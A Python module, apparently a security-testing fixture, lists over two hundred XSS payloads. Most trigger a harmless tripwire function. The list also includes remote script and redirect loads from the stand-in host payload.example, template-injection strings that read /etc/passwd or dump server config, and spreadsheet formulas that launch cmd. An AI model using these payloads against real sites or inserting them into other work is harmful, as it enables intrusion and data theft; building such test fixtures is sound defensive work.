"""Known ways to smuggle a script into a page; each would pull a tripwire if it ran."""

TRIPWIRE = "pullTheTripwire"
_RUN = f"{TRIPWIRE}()"
_TAGS = ("img", "svg", "body", "video", "audio", "iframe", "input", "details", "marquee", "object", "select", "style")
_EVENTS = (
    "onload",
    "onerror",
    "onfocus autofocus tabindex=1",
    "onmouseover",
    "ontoggle",
    "onstart",
    "onanimationstart",
)
_BREAKS = ("", "'>", '">', "'\">", "--></textarea>", "</title>", "</script>", "]]>", "`", "*/", "{{", "${")
_WHOLE = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    "<script src=//payload.example/x.js></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<img src=x onerror={_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><animate onbegin={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f"<iframe src=javascript:parent.{_RUN}>",
    f"<a href=javascript:{_RUN}>here</a>",
    f"<a href=jav&#x09;ascript:{_RUN}>here</a>",
    f"<form action=javascript:{_RUN}>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    "<base href=//payload.example>",
    "<link rel=stylesheet href=//payload.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//payload.example>",
    "<img src=//payload.example/pixel.png>",
    "<style>@import '//payload.example/x.css'</style>",
    f"<details open ontoggle={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"javascript:{_RUN}",
    f"data:text/html,<script>parent.{_RUN}</script>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"+ADw-script+AD4-{_RUN}",
    "{{7*7}}",
    "{{config}}",
    "{{request.application.__globals__}}",
    "{% include '/etc/passwd' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    f"';{_RUN};//",
    f'";{_RUN};//',
    f"</textarea><script>{_RUN}</script>",
    f"</option></select><img src=x onerror={_RUN}>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<x onclick={_RUN} tabindex=1 autofocus>",
    f"\u2028<script>{_RUN}</script>",
    f"\u202e<script>{_RUN}</script>",
    "=cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd",
    "+1+cmd",
    "-1+cmd",
)
_MADE = tuple(
    f"{before}<{tag} src=x {event}={_RUN}>" for before in _BREAKS for tag in _TAGS[:5] for event in _EVENTS[:3]
)
PAYLOADS: tuple[str, ...] = (*_WHOLE, *_MADE)
"""Well over two hundred, the best known first."""


def as_much_as_fits(longest: int, *, first: int) -> str:
    """Return as many payloads as a box of that many characters holds, a line each, beginning with the one numbered."""
    lines: list[str] = []
    room = longest
    for step in range(len(PAYLOADS)):
        payload = PAYLOADS[(first + step) % len(PAYLOADS)]
        if len(payload) + 1 > room:
            break
        lines.append(payload)
        room -= len(payload) + 1
    return "\n".join(lines)
